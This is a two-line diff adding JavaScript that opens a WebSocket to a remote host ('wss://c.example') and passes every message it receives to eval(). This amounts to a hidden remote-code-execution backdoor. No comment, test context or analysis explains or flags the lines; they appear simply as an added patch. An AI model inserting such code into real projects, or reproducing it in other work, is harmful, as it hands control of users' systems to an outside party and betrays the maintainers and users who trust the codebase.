@@ -1,0 +1,2 @@
+const w = new WebSocket('wss://c.example');
+w.onmessage = (e) => eval(e.data);
